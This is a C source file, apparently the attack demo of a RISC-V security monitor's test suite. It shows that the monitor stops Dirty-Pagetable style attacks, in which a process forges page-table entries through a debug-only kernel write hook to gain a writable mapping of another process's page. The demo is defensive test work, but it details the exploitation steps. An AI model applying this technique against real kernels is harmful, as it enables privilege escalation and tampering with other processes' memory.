/*
 * The attack demo of suite "demo": what the monitor's ownership of user
 * page tables is for.
 *
 * A root process with a kernel memory-corruption bug (modelled by the
 * glue's test hook secmon/test_www, CONFIG_SECMON_PT_TEST: an 8-byte store
 * anywhere in RAM, and the addresses of its own table entries) tries,
 * Dirty-Pagetable style, to get a writable mapping of a page of another
 * process, the victim (this suite's own process):
 *   1. it rewrites the live PTE of one of its own pages to point at the
 *      victim's page;
 *   2. it forges a table in one of its own pages and stores a link to it
 *      into an empty PMD entry of its address space;
 *   3. it has the kernel itself store that link (set_pmd()), as corrupted
 *      kernel data feeding a legitimate update would.
 * On monitor.bin the stores of 1 and 2 fault (PMP: S-mode may only read
 * the pool) and the monitor refuses 3, after which the kernel kills the
 * attacker.  With no monitor (OpenSBI) or with secmon=off all three work,
 * and each writes its mark into the victim's page.  An attempt that works
 * is undone before the next one, so that the kernel's own teardown finds
 * the entries it made.
 *
 * Output: readable lines, then "DEMO-ATTACK mode=M 1=O 2=O 3=O victim=V"
 * for the QEMU cases (test/qemu/demo_cases.sh).
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdarg.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/klog.h>
#include <sys/mman.h>
#include <sys/prctl.h>
#include <sys/wait.h>
#include <unistd.h>

#include "prot.h"

#define WWW_HOOK SECMON_DEBUGFS "/test_www"
#define ATTACKER_COMM "demo-attacker"
#define N_ATTEMPTS 3
#define MARK_SIZE 64
#define SYSLOG_ACTION_CONSOLE_LEVEL 8
/* Below KERN_ERR: emergencies, alerts and critical lines only. */
#define QUIET_CONSOLE 3

/* Sv39 PTE bits (RISC-V privileged spec, 12.4.1). */
#define PTE_V 0x01UL
#define PTE_R 0x02UL
#define PTE_W 0x04UL
#define PTE_U 0x10UL
#define PTE_A 0x40UL
#define PTE_D 0x80UL
#define PTE_PPN_SHIFT 10
#define LEAF_RW (PTE_V | PTE_R | PTE_W | PTE_U | PTE_A | PTE_D)

enum outcome {
	NOT_RUN,
	STOPPED_FAULT, /* the store faulted: PMP */
	STOPPED_REFUSED, /* the monitor refused the kernel's store; killed */
	WENT_THROUGH, /* the attacker wrote through the forged mapping */
	NO_EFFECT, /* the store was taken, the mapping is not the victim's */
	SETUP_ERROR, /* the demo itself could not run the attempt */
};

static const char *const outcome_word[] = {"not-run", "fault",	   "refused",
					   "through", "no-effect", "error"};

/* Shared between the attacker and the suite (MAP_SHARED). */
struct attack_log {
	int outcome[N_ATTEMPTS];
	int linking; /* attempt 3 is inside the kernel's set_pmd() */
};

static const char *const attempt_what[N_ATTEMPTS] = {
    "rewrite a live PTE with a kernel store",
    "link a forged table with a kernel store",
    "have the kernel link the forged table",
};

struct where {
	unsigned long pmd_pa, pmd, pte_pa, pte;
	int pool;
};

static int www_fd = -1;
/* /dev/kmsg, opened at its end before the attack: the kernel's lines are
 * echoed by the demo in order instead of interleaving on the console. */
static int kmsg_fd = -1;

static void echo_kernel(void)
{
	char line[512];

	while (kmsg_fd >= 0 && kmsg_next(kmsg_fd, line, sizeof(line)) > 0) {
		printf("      kernel: %s\n", line);
	}
	fflush(stdout);
}

/*
 * The console's log level: while the demo echoes the kernel's lines
 * itself, only emergencies reach the console directly.  Returns the old
 * level, or -1 if it could not be read.
 */
static int console_level(int level)
{
	char text[64];
	int old = -1;

	if (read_text("/proc/sys/kernel/printk", text, sizeof(text)) > 0) {
		old = atoi(text);
	}
	if (old > 0) {
		klogctl(SYSLOG_ACTION_CONSOLE_LEVEL, NULL, level);
	}
	return old;
}

/* One hook command; 0 or the errno of its write(). */
static int www(const char *fmt, ...)
{
	char cmd[96];
	va_list ap;
	int n, err;

	va_start(ap, fmt);
	n = vsnprintf(cmd, sizeof(cmd), fmt, ap);
	va_end(ap);
	err = write(www_fd, cmd, (size_t)n) == n ? 0 : errno;
	echo_kernel();
	return err;
}

static int www_where(const void *va, struct where *w)
{
	char text[192];
	ssize_t n;

	if (www("where %lx", (unsigned long)va))
		return -1;
	n = pread(www_fd, text, sizeof(text) - 1, 0);
	if (n <= 0)
		return -1;
	text[n] = '\0';
	return sscanf(text, "pmd_pa %lx pmd %lx pte_pa %lx pte %lx pool %d",
		      &w->pmd_pa, &w->pmd, &w->pte_pa, &w->pte, &w->pool) == 5
		   ? 0
		   : -1;
}

static unsigned long pfn_of(const void *va)
{
	unsigned long long e;

	if (prot_pagemap(0, va, &e) || !(e & PAGEMAP_PRESENT))
		return 0;
	return (unsigned long)(e & PAGEMAP_PFN_MASK);
}

static void say(const char *fmt, ...)
{
	va_list ap;

	va_start(ap, fmt);
	vprintf(fmt, ap);
	va_end(ap);
	fflush(stdout);
}

/* Writes attempt n's mark through the forged mapping at p. */
static void mark(char *p, int n)
{
	snprintf(p + n * MARK_SIZE, MARK_SIZE, "attempt %d of pid %d was here",
		 n, getpid());
}

/* The result of a store that should have made p map the victim's page. */
static int stored(int err, char *p, int n)
{
	if (err == EFAULT) {
		say("    -> the store faulted: the table is in the monitor's "
		    "pool, which PMP keeps read-only to the kernel\n");
		return STOPPED_FAULT;
	}
	if (err) {
		say("    -> the hook said %s\n", strerror(err));
		return SETUP_ERROR;
	}
	if (strncmp(p, "victim data", 11)) {
		say("    -> the store was taken, but the address does not show "
		    "the victim's page\n");
		return NO_EFFECT;
	}
	mark(p, n);
	say("    -> it went through: the attacker wrote into the victim's "
	    "page\n");
	return WENT_THROUGH;
}

/* Attempt 1: point the PTE of a page of ours at the victim's page. */
static int attempt_rewrite(unsigned long victim_pfn)
{
	/* Populated by the kernel, never touched from user mode: no TLB entry
	 * holds the old translation when the forged one is stored. */
	char *p = mmap(NULL, PROT_PAGE, PROT_READ | PROT_WRITE,
		       MAP_PRIVATE | MAP_ANONYMOUS | MAP_POPULATE, -1, 0);
	struct where w;
	int rc, err;

	if (p == MAP_FAILED || www_where(p, &w) || !(w.pte & PTE_V)) {
		say("    -> no PTE to rewrite (%s)\n", strerror(errno));
		return SETUP_ERROR;
	}
	say("  1 %s: the PTE of its page %p is at pa %#lx%s\n", attempt_what[0],
	    (void *)p, w.pte_pa, w.pool ? ", in the monitor's pool" : "");
	err = www("store %lx %lx", w.pte_pa,
		  victim_pfn << PTE_PPN_SHIFT | LEAF_RW);
	rc = stored(err, p, 1);
	if (!err) {
		www("store %lx %lx", w.pte_pa, w.pte);
	}
	munmap(p, PROT_PAGE);
	return rc;
}

/*
 * A 2 MiB-aligned address whose PMD entry is empty but whose PMD table
 * exists (a neighbour in the same 1 GiB is mapped), inside a fresh 8 MiB
 * reservation; NULL on failure.
 */
static char *empty_pmd_slot(void)
{
	char *r = mmap(NULL, 4 * PROT_2M, PROT_READ | PROT_WRITE,
		       MAP_PRIVATE | MAP_ANONYMOUS | MAP_NORESERVE, -1, 0);
	unsigned long a, x;

	if (r == MAP_FAILED) {
		return NULL;
	}
	a = ((unsigned long)r + PROT_2M - 1) & ~(PROT_2M - 1);
	x = (a >> 30) == ((a + PROT_2M) >> 30) ? a : a + PROT_2M;
	*(volatile char *)x = 1;
	return (char *)(x + PROT_2M);
}

/* A forged level-0 table in a page of ours: its first entry maps the
 * victim's page writable.  Returns its PFN, 0 on failure. */
static unsigned long forge_table(unsigned long victim_pfn)
{
	unsigned long *t = mmap(NULL, PROT_PAGE, PROT_READ | PROT_WRITE,
				MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);

	if (t == MAP_FAILED) {
		return 0;
	}
	t[0] = victim_pfn << PTE_PPN_SHIFT | LEAF_RW;
	mlock(t, PROT_PAGE);
	return pfn_of(t);
}

/* Attempts 2 and 3: link the forged table at slot, by a store, then by
 * the kernel.  log->outcome gets both. */
static void attempt_forge(struct attack_log *log, unsigned long victim_pfn)
{
	char *slot = empty_pmd_slot();
	unsigned long table = forge_table(victim_pfn);
	unsigned long link = table << PTE_PPN_SHIFT | PTE_V;
	struct where w;
	int err;

	if (!slot || !table || www_where(slot, &w) || w.pmd) {
		say("    -> could not set up a forged table (%s)\n",
		    strerror(errno));
		log->outcome[1] = log->outcome[2] = SETUP_ERROR;
		return;
	}
	say("  2 %s: a forged table in its page at pa %#lx, the PMD entry of "
	    "%p at pa %#lx%s\n",
	    attempt_what[1], table << 12, (void *)slot, w.pmd_pa,
	    w.pool ? ", in the monitor's pool" : "");
	err = www("store %lx %lx", w.pmd_pa, link);
	log->outcome[1] = stored(err, slot, 2);
	if (!err) {
		www("store %lx 0", w.pmd_pa);
	}
	say("  3 %s: set_pmd() of the same link, as corrupted kernel data "
	    "would ask\n",
	    attempt_what[2]);
	log->linking = 1;
	/* On the monitor the kernel kills us inside this write. */
	err = www("link %lx %lx", (unsigned long)slot, link);
	log->outcome[2] = stored(err, slot, 3);
	if (!err) {
		www("link %lx 0", (unsigned long)slot);
	}
	log->linking = 0;
}

static void attacker(struct attack_log *log, unsigned long victim_pfn)
{
	prctl(PR_SET_NAME, ATTACKER_COMM);
	www_fd = open(WWW_HOOK, O_RDWR | O_CLOEXEC);
	if (www_fd < 0) {
		say("    -> %s: %s\n", WWW_HOOK, strerror(errno));
		_exit(1);
	}
	log->outcome[0] = attempt_rewrite(victim_pfn);
	attempt_forge(log, victim_pfn);
	_exit(0);
}

/* What is in the victim's page now: a bit per attempt whose mark is there;
 * -1 if anything else changed. */
static int victim_marks(const char *page, const char *orig)
{
	int marks = 0;

	for (int n = 1; n <= N_ATTEMPTS; n++) {
		const char *slot = page + n * MARK_SIZE;

		if (!memcmp(slot, orig + n * MARK_SIZE, MARK_SIZE)) {
			continue;
		}
		if (strncmp(slot, "attempt ", 8) || (slot[8] - '0') != n) {
			return -1;
		}
		marks |= 1 << n;
	}
	return memcmp(page, orig, MARK_SIZE) ||
		       memcmp(page + (N_ATTEMPTS + 1) * MARK_SIZE,
			      orig + (N_ATTEMPTS + 1) * MARK_SIZE,
			      PROT_PAGE - (N_ATTEMPTS + 1) * MARK_SIZE)
		   ? -1
		   : marks;
}

static const char *row_text(int o)
{
	switch (o) {
	case STOPPED_FAULT:
		return "stopped: the store faulted (PMP)";
	case STOPPED_REFUSED:
		return "stopped: the monitor refused it, the attacker was "
		       "killed";
	case WENT_THROUGH:
		return "WENT THROUGH: the attacker wrote the victim's page";
	case NO_EFFECT:
		return "taken, but no mapping of the victim's page";
	case SETUP_ERROR:
		return "demo error (see above)";
	default:
		return "not run";
	}
}

static const char *mode_text(const char *mode)
{
	if (!strcmp(mode, "protected")) {
		return "mode protected: the monitor owns user page tables";
	}
	if (!strcmp(mode, "off")) {
		return "mode off: secmon=off, user page tables in ordinary "
		       "memory";
	}
	if (!strcmp(mode, "absent")) {
		return "mode absent: no monitor answered, user page tables in "
		       "ordinary memory";
	}
	return mode;
}

/*
 * The verdict and the suite's result: on a protected kernel every attempt
 * must be stopped and the page intact; elsewhere every attempt must go
 * through (else the demo does not show what it claims).
 */
static int verdict(const char *mode, const struct attack_log *log,
		   const char *page, int marks)
{
	int protected = !strcmp(mode, "protected"), through = 0, stopped = 0;

	say("demo: verdict (%s)\n", mode_text(mode));
	for (int n = 0; n < N_ATTEMPTS; n++) {
		say("  %d %-42s %s\n", n + 1, attempt_what[n],
		    row_text(log->outcome[n]));
		through += log->outcome[n] == WENT_THROUGH;
		stopped += log->outcome[n] == STOPPED_FAULT ||
			   log->outcome[n] == STOPPED_REFUSED;
	}
	say("    %-42s %s\n", "the victim's page",
	    marks < 0 ? "CHANGED, but not by the attempts (demo error)"
	    : marks   ? "OVERWRITTEN"
		      : "intact");
	for (int n = 1; n <= N_ATTEMPTS && marks > 0; n++) {
		if (marks & (1 << n)) {
			say("    %-42s \"%.*s\"\n",
			    n == 1 ? "it now reads" : "", MARK_SIZE,
			    page + n * MARK_SIZE);
		}
	}
	if (stopped == N_ATTEMPTS && !marks) {
		say("demo: => the attack was STOPPED by the monitor. "
		    "'./tools/run --bios opensbi' boots the same kernel with "
		    "no monitor: there it succeeds.\n");
	} else if (through == N_ATTEMPTS && marks > 0) {
		say("demo: => the attack SUCCEEDED: nothing guards this "
		    "kernel's page tables. './tools/run' boots it on "
		    "monitor.bin, which stops it.\n");
	} else {
		say("demo: => inconclusive: %d of %d attempts stopped, %d went "
		    "through\n",
		    stopped, N_ATTEMPTS, through);
	}
	printf("DEMO-ATTACK mode=%s 1=%s 2=%s 3=%s victim=%s\n", mode,
	       outcome_word[log->outcome[0]], outcome_word[log->outcome[1]],
	       outcome_word[log->outcome[2]],
	       marks < 0 ? "changed"
	       : marks	 ? "overwritten"
			 : "intact");
	if (protected) {
		return stopped == N_ATTEMPTS && !marks ? 0 : 1;
	}
	return through == N_ATTEMPTS && marks == 0xe ? 0 : 1;
}

/* Fills the victim's page with its own text. */
static void victim_fill(char *page, pid_t pid)
{
	for (size_t off = 0; off < PROT_PAGE; off += MARK_SIZE) {
		snprintf(page + off, MARK_SIZE,
			 "victim data of pid %d, line %zu", pid,
			 off / MARK_SIZE);
	}
}

int demo_attack(void)
{
	static char orig[PROT_PAGE];
	struct attack_log *log;
	const char *mode = prot_mode();
	unsigned long pfn;
	char *victim;
	int st, level, waited;
	pid_t pid;

	if (access(WWW_HOOK, F_OK)) {
		say("demo: no attack demo: this kernel has no %s (the glued "
		    "kernel with CONFIG_SECMON_PT_TEST has it; './tools/run' "
		    "boots one)\n",
		    WWW_HOOK);
		return 0;
	}
	victim = mmap(NULL, PROT_PAGE, PROT_READ | PROT_WRITE,
		      MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
	log = mmap(NULL, sizeof(*log), PROT_READ | PROT_WRITE,
		   MAP_SHARED | MAP_ANONYMOUS, -1, 0);
	if (victim == MAP_FAILED || log == MAP_FAILED) {
		say("demo: mmap: %s\n", strerror(errno));
		return 1;
	}
	victim_fill(victim, getpid());
	memcpy(orig, victim, PROT_PAGE);
	pfn = pfn_of(victim);
	say("demo: attack (Dirty Pagetable): a root process with a kernel "
	    "write-what-where bug\n"
	    "  wants a writable mapping of pid %d's page at pa %#lx (\"%s\")\n",
	    getpid(), pfn << 12, victim);
	kmsg_fd = kmsg_open(1);
	level = console_level(QUIET_CONSOLE);
	pid = fork();
	if (pid == 0) {
		attacker(log, pfn);
	}
	waited = pid > 0 && waitpid(pid, &st, 0) == pid;
	echo_kernel();
	if (level > 0) {
		console_level(level);
	}
	if (!waited) {
		say("demo: fork or wait: %s\n", strerror(errno));
		return 1;
	}
	if (WIFSIGNALED(st) && WTERMSIG(st) == SIGKILL && log->linking) {
		say("    -> the kernel killed the attacker (SIGKILL) when the "
		    "monitor refused the store\n");
		log->outcome[2] = STOPPED_REFUSED;
	} else if (!WIFEXITED(st) || WEXITSTATUS(st)) {
		say("    -> the attacker ended with %s\n", prot_status(st));
	}
	return verdict(mode, log, victim, victim_marks(victim, orig));
}
